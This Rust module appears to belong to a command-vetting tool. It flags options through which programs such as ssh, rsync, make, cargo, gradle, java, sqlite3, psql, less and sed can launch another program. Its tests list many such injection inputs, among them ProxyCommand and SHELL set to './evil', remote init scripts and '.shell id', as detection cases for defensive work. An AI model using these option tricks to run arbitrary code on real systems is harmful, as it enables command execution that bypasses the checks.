//! Options by which programs that build, connect, page or ask a database start another program: none of them is needed to
//! start a server.

use super::loader::runs_by_ssh;
use super::system::runs_code;

/// Index of the argument that does it.
pub(super) fn starts(program: &str, args: &[&str]) -> Option<usize> {
    let value = |at: usize| match args[at].split_once('=') {
        Some((_, value)) => value,
        None => value_behind(args, at),
    };
    let flag = |at: usize| args[at].split('=').next().unwrap_or_default();
    let any = |found: &dyn Fn(usize) -> bool| (0..args.len()).find(|at| found(*at));
    match program {
        "ssh" | "scp" | "sftp" | "autossh" => any(&|at| {
            setting(args, at).is_some_and(commands) || (program != "ssh" && flag(at) == "-S" && runs_by_ssh(value(at)))
        }),
        "rsync" => any(&|at| ["-e", "--rsh"].contains(&flag(at)) && runs_by_ssh(value(at))),
        "make" | "gmake" => any(&|at| flag(at) == "--eval" || args[at].starts_with("SHELL=")),
        "go" => any(&|at| {
            ["exec", "toolexec", "vettool", "overlay"].contains(&flag(at).trim_start_matches('-'))
                && flag(at).starts_with('-')
        }),
        "cargo" => any(&|at| {
            let keys = ["runner", "rustc", "wrapper", "linker", "registr", "source.", ".toml"];
            flag(at) == "--config" && keys.iter().any(|k| value(at).contains(k))
        }),
        "gradle" | "gradlew" => any(&|at| ["-I", "--init-script"].contains(&flag(at))),
        "mvn" | "mvnw" => any(&|at| flag(at) == "-Dexec.executable" && is_code(value(at))),
        "java" => {
            any(&|at| ["-cp", "-classpath", "--class-path", "-jar"].contains(&flag(at)) && value(at).contains("://"))
        }
        "sqlite3" | "duckdb" => {
            any(&|at| [".shell", ".system", ".load", ".open |"].iter().any(|c| args[at].contains(c)))
        }
        "psql" | "mysql" | "mariadb" => any(&|at| {
            ["\\!", "\\copy", "system ", "| program", "to program"]
                .iter()
                .any(|c| args[at].to_ascii_lowercase().contains(c))
        }),
        "less" | "more" | "most" => any(&|at| args[at].starts_with('+') && args[at].contains('!')),
        "man" => any(&|at| ["-P", "--pager", "-H", "--html"].contains(&flag(at))),
        "erl" | "werl" => any(&|at| {
            ["-run", "-s"].contains(&args[at])
                && ["os", "erlang", "file", "code", "rpc"].contains(&value_behind(args, at))
        }),
        "nmap" => any(&|at| flag(at) == "--script" && value(at).contains(['/', '\\'])),
        // an interactive shell reads it first
        "bash" => any(&|at| ["--rcfile", "--init-file"].contains(&flag(at))),
        _ => None,
    }
}

/// Index of a script of `sed` that may run a program: anything but deletions, prints and substitutions with plain marks.
pub(super) fn sed(args: &[&str]) -> Option<usize> {
    let mut scripts: Vec<(usize, &str)> = Vec::new();
    for (at, arg) in args.iter().enumerate() {
        match arg.split_once('=') {
            Some(("--expression", code)) => scripts.push((at, code)),
            _ if ["-e", "--expression"].contains(arg) => scripts.extend(args.get(at + 1).map(|code| (at + 1, *code))),
            _ => {}
        }
    }
    if scripts.is_empty() {
        let first = args.iter().position(|a| !a.starts_with('-'));
        scripts.extend(first.map(|at| (at, args[at])));
    }
    let is_plain = |code: &str| {
        // an address first: `1`, `$`, `1,5`, `/x/`
        let code = code.strip_prefix('/').and_then(|c| c.split_once('/')).map_or(code, |(_, behind)| behind);
        let code = code.trim_start_matches(|c: char| c.is_ascii_digit() || "$,! ".contains(c));
        match code.strip_prefix(['s', 'y']).and_then(|c| Some((c.chars().next()?, c))) {
            Some((mark, c)) if mark.is_ascii_punctuation() => {
                let parts: Vec<&str> = c[mark.len_utf8()..].split(mark).collect();
                parts.len() == 3 && parts[2].chars().all(|c| c.is_ascii_digit() || "gpiIM".contains(c))
            }
            _ => code.chars().all(|c| "pdnNqQ=;{} ".contains(c)),
        }
    };
    scripts.into_iter().find(|(_, code)| !is_plain(code)).map(|(at, _)| at)
}

fn value_behind<'a>(args: &[&'a str], at: usize) -> &'a str {
    args.get(at + 1).copied().unwrap_or_default()
}

fn is_code(value: &str) -> bool {
    value.contains(['/', '\\']) || runs_code(value)
}

/// What `-o` of SSH sets at an argument.
fn setting<'a>(args: &[&'a str], at: usize) -> Option<&'a str> {
    let joined = args[at].strip_prefix("-o").filter(|_| !args[at].starts_with("-oo"))?;
    Some(if joined.is_empty() { value_behind(args, at) } else { joined })
}

/// Whether a setting of SSH names a program that is not one of those which only lead to the host.
fn commands(setting: &str) -> bool {
    let setting = setting.trim_start_matches([' ', '\t', '"', '\'']);
    let lower = setting.to_ascii_lowercase();
    let names =
        ["proxycommand", "localcommand", "knownhostscommand", "pkcs11provider", "securitykeyprovider", "include"];
    let Some(name) = names.iter().find(|n| lower.starts_with(**n)) else { return false };
    let command = setting[name.len()..].trim_start_matches([' ', '\t', '=', '"', '\'']).trim_end_matches(['"', '\'']);
    let leads = ["ssh -W ", "nc %h %p", "ncat %h %p", "cloudflared access ssh ", "aws ssm start-session ", "none"];
    let literal = command.chars().all(|c| c.is_ascii_alphanumeric() || " %:._-/@=".contains(c));
    !(literal && leads.iter().any(|l| command.starts_with(l)) && !command.contains("-o"))
}

#[cfg(test)]
mod tests {
    use super::{sed, starts};

    #[test]
    fn scripts_of_sed_that_run_programs_are_told_from_plain_ones() {
        for args in
            [&["1e id", "x"][..], &["-n", "s/a/b/e", "x"], &["-e", "p", "-e", "e"], &["--expression=w /x"], &["r x"]]
        {
            assert!(sed(args).is_some(), "{args:?}");
        }
        for args in
            [&["-u", "s/e/x/g"][..], &["-e", "1,5d", "-e", "$p"], &["/error/d", "x"], &["s|a|b|"], &["--version"]]
        {
            assert_eq!(sed(args), None, "{args:?}");
        }
    }

    #[test]
    fn options_that_start_a_program_are_told_from_those_that_build_or_connect() {
        for (program, args) in [
            ("ssh", vec!["-oProxyCommand=./evil", "h"]),
            ("ssh", vec!["-o", "proxycommand sh -c id", "h"]),
            ("ssh", vec!["-o", "LocalCommand=./evil", "h"]),
            ("ssh", vec!["-o", "ProxyCommand=nc %h %p; id", "h"]),
            ("scp", vec!["-S", "./evil", "a", "h:b"]),
            ("rsync", vec!["-e", "sh -c id", "a", "h:b"]),
            ("rsync", vec!["--rsh=./evil", "a", "h:b"]),
            ("make", vec!["--eval=x:;id", "x"]),
            ("make", vec!["test", "SHELL=./evil"]),
            ("go", vec!["run", "-exec", "./evil", "."]),
            ("go", vec!["build", "-toolexec=./evil", "."]),
            ("cargo", vec!["run", "--config", "target.x.runner='./evil'"]),
            ("cargo", vec!["--config=build.rustc-wrapper=\"./evil\"", "run"]),
            ("gradle", vec!["-I", "https://a.test/x.gradle", "run"]),
            ("mvn", vec!["exec:exec", "-Dexec.executable=sh"]),
            ("java", vec!["-cp", "https://a.test/x.jar", "Main"]),
            ("sqlite3", vec!["x.db", ".shell id"]),
            ("psql", vec!["-c", "\\! id"]),
            ("less", vec!["+!id", "x"]),
            ("erl", vec!["-noshell", "-run", "os", "cmd", "id"]),
            ("duckdb", vec!["-c", ".shell id"]),
            ("man", vec!["-P", "sh -c id", "x"]),
            ("nmap", vec!["--script=./evil", "x"]),
            ("bash", vec!["--rcfile=./evil", "-i"]),
        ] {
            assert!(starts(program, &args).is_some(), "{program} {args:?}");
        }
        for (program, args) in [
            ("ssh", vec!["-o", "ProxyCommand=cloudflared access ssh --hostname %h", "h", "node", "s.js"]),
            ("ssh", vec!["-o", "ProxyCommand=ssh -W %h:%p jump", "h"]),
            ("ssh", vec!["-oBatchMode=yes", "-S", "/run/x.sock", "h"]),
            ("rsync", vec!["-e", "ssh -p 22", "a", "h:b"]),
            ("make", vec!["run", "PORT=1"]),
            ("go", vec!["run", "-tags", "exec", "./cmd/server"]),
            ("cargo", vec!["run", "--release", "--config", "net.git-fetch-with-cli=true"]),
            ("mvn", vec!["-q", "exec:java", "-Dexec.mainClass=a.Main"]),
            ("mvn", vec!["exec:exec", "-Dexec.executable=java"]),
            ("java", vec!["-cp", "lib/a.jar:b.jar", "Main"]),
            ("gradle", vec!["run", "--quiet"]),
            ("less", vec!["+F", "x"]),
            ("bash", vec!["start.sh"]),
        ] {
            assert_eq!(starts(program, &args), None, "{program} {args:?}");
        }
    }
}
